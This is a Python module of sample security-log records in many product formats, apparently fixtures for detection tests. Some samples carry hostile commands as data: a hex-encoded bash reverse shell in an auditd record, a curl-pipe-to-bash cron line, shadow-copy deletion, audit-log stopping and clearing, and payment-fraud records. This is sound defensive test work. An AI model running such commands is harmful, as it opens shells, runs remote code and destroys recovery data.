"""What products really emit, one attack a text; each with a near miss by one change."""

import json
from typing import Any, Final


def ndjson(*events: dict[str, Any]) -> bytes:
    """Write events as JSON lines."""
    return b"".join(json.dumps(event).encode() + b"\n" for event in events)


AUDITD_SHELL: Final = b"""\
node=web01 type=SYSCALL msg=audit(1714550401.243:24287): arch=c000003e syscall=59 success=yes \
exit=0 a0=55d a1=55e a2=55f a3=8 items=2 ppid=2686 pid=3538 auid=1000 uid=0 gid=0 euid=0 suid=0 \
fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="bash" exe="/usr/bin/bash" subj=unconfined \
key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root" GID="root"
node=web01 type=EXECVE msg=audit(1714550401.243:24287): argc=3 a0="bash" a1="-c" \
a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E372F3434343420303E2631
node=web01 type=CWD msg=audit(1714550401.243:24287): cwd="/root"
node=web01 type=PROCTITLE msg=audit(1714550401.243:24287): proctitle=62617368002D63
"""
AUDITD_CRON: Final = b"""\
type=SYSCALL msg=audit(1714550402.010:24288): arch=c000003e syscall=257 success=yes exit=3 \
a0=ffffff9c a1=7ffc a2=441 a3=1b6 items=2 ppid=3000 pid=3600 auid=0 uid=0 gid=0 euid=0 tty=pts0 \
ses=1 comm="bash" exe="/usr/bin/bash" subj=unconfined key="cron"
type=CWD msg=audit(1714550402.010:24288): cwd="/root"
type=PATH msg=audit(1714550402.010:24288): item=1 name="/etc/crontab" inode=55 dev=fd:00 \
mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
"""
SSHD_ROOT: Final = (
    b"May  1 08:00:00 web01 sshd[811]: Accepted password for root "
    b"from 203.0.113.9 port 50022 ssh2\n"
)
CRON_PIPE: Final = (
    b"<78>1 2024-05-01T08:00:00.1Z web01 CRON 811 - - "
    b"(root) CMD (curl -s http://203.0.113.7/x | bash)\n"
)
ZEEK_DNS: Final = (
    b"#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n"
    b"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\tquery\tqtype_name\n"
    b"#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tstring\tstring\n"
    b"1714550400.1\tCHhAvV\t10.0.0.5\t53122\t10.0.0.1\t53\tudp\t4711\tabc123.ngrok.io\tA\n"
)
ZEEK_RDP: Final[dict[str, Any]] = {
    "_path": "conn", "ts": 1714550400.1, "uid": "C1", "id.orig_h": "203.0.113.9",
    "id.orig_p": 50022, "id.resp_h": "10.0.0.8", "id.resp_p": 3389, "proto": "tcp",
    "service": "rdp", "duration": 12.5, "orig_bytes": 4000, "resp_bytes": 90000,
    "conn_state": "SF", "local_orig": False, "local_resp": True, "history": "ShADadFf",
    "orig_pkts": 40, "orig_ip_bytes": 6000, "resp_pkts": 90, "resp_ip_bytes": 95000,
}  # fmt: skip
ZEEK_MAIL: Final[dict[str, Any]] = {
    "_path": "smtp", "ts": 1714550400.1, "uid": "C2", "id.orig_h": "203.0.113.9",
    "id.orig_p": 50022, "id.resp_h": "10.0.0.8", "id.resp_p": 25, "trans_depth": 1,
    "mailfrom": "billing@acme-ltd.example", "rcptto": ["ap@us.example"],
    "subject": "Our new bank details", "last_reply": "250 ok", "tls": False,
}  # fmt: skip
_EVE: Final[dict[str, Any]] = {
    "timestamp": "2024-05-01T08:00:00.123456+0000", "flow_id": 1001, "in_iface": "eth0",
    "src_ip": "203.0.113.9", "src_port": 50123, "dest_ip": "10.0.0.5", "dest_port": 443,
    "proto": "TCP", "host": "sensor1",
}  # fmt: skip
EVE_ALERT: Final[dict[str, Any]] = _EVE | {
    "event_type": "alert",
    "alert": {
        "action": "allowed", "gid": 1, "signature_id": 2024290, "rev": 3, "severity": 1,
        "signature": "ET MALWARE Implant Check-in", "category": "A Network Trojan was detected",
    },
}  # fmt: skip
EVE_DNS: Final[dict[str, Any]] = _EVE | {
    "event_type": "dns",
    "dns": {
        "version": 3, "type": "request", "id": 1,
        "queries": [{"rrname": "home.duckdns.org", "rrtype": "A"}],
    },
}  # fmt: skip
TRAIL_STOPPED: Final[dict[str, Any]] = {
    "eventVersion": "1.08",
    "userIdentity": {
        "type": "IAMUser", "principalId": "AIDA", "accountId": "123456789012",
        "arn": "arn:aws:iam::123456789012:user/alice", "userName": "alice",
    },
    "eventTime": "2024-05-01T08:00:00Z", "eventSource": "cloudtrail.amazonaws.com",
    "eventName": "StopLogging", "awsRegion": "eu-central-1", "sourceIPAddress": "203.0.113.9",
    "userAgent": "aws-cli/2", "requestParameters": {"name": "main"}, "responseElements": None,
    "eventType": "AwsApiCall", "recipientAccountId": "123456789012",
}  # fmt: skip
TRAIL_ROOT: Final[dict[str, Any]] = TRAIL_STOPPED | {
    "userIdentity": {"type": "Root", "arn": "arn:aws:iam::123456789012:root"},
    "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "requestParameters": None,
    "responseElements": {"ConsoleLogin": "Success"}, "eventType": "AwsConsoleSignIn",
}  # fmt: skip
CEF_RDP: Final = (
    b"<134>May  1 08:00:00 fw1 CEF:0|Fortinet|Fortigate|v7.2.0|00013|traffic:forward close|3|"
    b"cat=traffic:forward src=192.0.2.9 spt=4444 dst=10.1.1.1 dpt=3389 proto=TCP act=close "
    b"app=RDP out=6000 in=50000 dvchost=fw1\n"
)
CEF_THREAT: Final = (
    b"CEF:0|Palo Alto Networks|PAN-OS|10.1|40001|SSH Brute Force Attempt|8|rt=May 01 2024 08:00:00 "
    b"src=192.0.2.9 dst=10.1.1.1 dpt=22 cat=vulnerability act=alert dvchost=fw1\n"
)
_HEAD: Final = (
    "type,action,invoice_id,payment_id,vendor_id,vendor_name,amount,currency,issued_at,created_by,"
    "approved_by,bank_account\n"
)
BANK_CHANGE: Final = (
    _HEAD + "vendor,bank_change,,,V-17,Acme Ltd,,,2024-05-04,mallory,,GB33BUKB20201555555555\n"
).encode()
SELF_APPROVED: Final = (
    _HEAD
    + "invoice,approve,INV-1,,V-17,Acme Ltd,1234.50,EUR,2024-05-04,carol,carol,DE89370400440532\n"
).encode()
PAYMENT: Final[dict[str, Any]] = {
    "type": "payment", "action": "pay", "payment_id": "P-1", "vendor_id": "V-17",
    "amount": "9900.00", "currency": "EUR", "paid_at": "2024-05-04T10:00:00Z",
    "created_by": "carol", "approved_by": "dave", "bank_account": "DE89370400440532013000",
}  # fmt: skip
OCSF_MAIL: Final[dict[str, Any]] = {
    "class_uid": 4009, "activity_id": 2, "time": 1714550400000, "severity_id": 1,
    "metadata": {"version": "1.1.0", "product": {"name": "MailGuard"}},
    "email": {"from": "a@b.example", "to": ["ap@us.example"], "subject": "Neue Bankverbindung"},
    "src_endpoint": {"ip": "203.0.113.9"},
}  # fmt: skip
_VSS: Final = "C:\\Windows\\System32\\vssadmin.exe"
_CMD: Final = "C:\\Windows\\System32\\cmd.exe"
OCSF_PROCESS: Final[dict[str, Any]] = {
    "class_uid": 1007, "activity_id": 1, "time": 1714550400000,
    "metadata": {"version": "1.1.0", "product": {"name": "SomeEDR"}},
    "device": {"hostname": "ws1", "os": {"name": "Windows 10", "type": "Windows", "type_id": 100}},
    "actor": {"user": {"name": "eve"}},
    "process": {"pid": 4, "cmd_line": "vssadmin delete shadows /all", "file": {"path": _VSS}},
}  # fmt: skip
ECS_PROCESS: Final[dict[str, Any]] = {
    "@timestamp": "2024-05-01T08:00:00Z", "ecs": {"version": "8.0.0"},
    "event": {"kind": "event", "module": "endpoint", "category": ["process"], "type": ["start"]},
    "user": {"name": "eve", "domain": "ACME"},
    "host": {"name": "ws1", "os": {"type": "windows", "name": "Windows"}},
    "process": {"executable": _VSS, "command_line": "vssadmin delete shadows /all", "pid": 420},
}  # fmt: skip
ECS_LOGIN: Final[dict[str, Any]] = {
    "@timestamp": "2024-05-01T08:00:00Z", "ecs": {"version": "8.0.0"}, "user": {"name": "root"},
    "event": {
        "kind": "event", "module": "system", "dataset": "system.auth", "action": "ssh_login",
        "category": ["authentication", "session"], "type": ["info"], "outcome": "success",
    },
    "source": {"ip": "203.0.113.9", "port": 50022},
    "host": {"hostname": "web01", "os": {"platform": "ubuntu", "name": "Ubuntu"}},
}  # fmt: skip
ECS_ALERT: Final[dict[str, Any]] = {
    "@timestamp": "2024-05-01T08:00:00Z", "ecs": {"version": "8.0.0"},
    "event": {"kind": "alert", "module": "endpoint", "category": ["malware"], "severity": 99},
    "rule": {"name": "Malware Detection Alert", "id": "r1"}, "host": {"name": "ws1"},
}  # fmt: skip
_SYSMON: Final = "Microsoft-Windows-Sysmon/Operational"
_STARTED: Final = {
    "UtcTime": "2020-09-22 02:13:35.797", "Image": _VSS, "ParentImage": _CMD, "ProcessId": "420",
    "CommandLine": "vssadmin delete shadows /all /quiet", "User": "ACME\\eve",
}  # fmt: skip
FLAT_SYSMON: Final[dict[str, Any]] = _STARTED | {
    "EventID": 1, "Channel": _SYSMON, "Hostname": "ws1", "SourceName": "Microsoft-Windows-Sysmon",
}  # fmt: skip
FLAT_SECURITY: Final[dict[str, Any]] = {
    "EventID": 4688, "Channel": "Security", "Hostname": "ws1", "EventTime": "2020-09-22 02:13:35",
    "NewProcessName": _VSS, "ParentProcessName": _CMD, "NewProcessId": "0x1a4", "ProcessId": "0x4",
    "CommandLine": "vssadmin delete shadows /all /quiet", "SubjectUserName": "eve",
}  # fmt: skip
WINLOGBEAT: Final[dict[str, Any]] = {
    "@timestamp": "2020-09-22T02:13:35.797Z", "event": {"code": "1"}, "host": {"name": "ws1"},
    "winlog": {
        "channel": _SYSMON, "event_id": "1", "provider_name": "Microsoft-Windows-Sysmon",
        "computer_name": "ws1", "event_data": _STARTED,
    },
}  # fmt: skip
WAZUH_SERVICE: Final[dict[str, Any]] = {
    "timestamp": "2020-09-22T02:13:35.797+0000", "agent": {"id": "001", "name": "ws1"},
    "data": {"win": {
        "system": {
            "eventID": "7045", "channel": "System", "computer": "ws1",
            "providerName": "Service Control Manager",
            "systemTime": "2020-09-22T02:13:35.797000000Z",
        },
        "eventdata": {"serviceName": "x", "imagePath": "cmd.exe /c calc"},
    }},
}  # fmt: skip
DUMPED_CLEAR: Final[dict[str, Any]] = {
    "Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Eventlog"}}, "EventID": 1102,
            "TimeCreated": {"#attributes": {"SystemTime": "2020-09-22T02:13:35.797Z"}},
            "Channel": "Security", "Computer": "dc1",
        },
        "UserData": {"LogFileCleared": {"SubjectUserName": "eve", "SubjectDomainName": "ACME"}},
    }
}  # fmt: skip
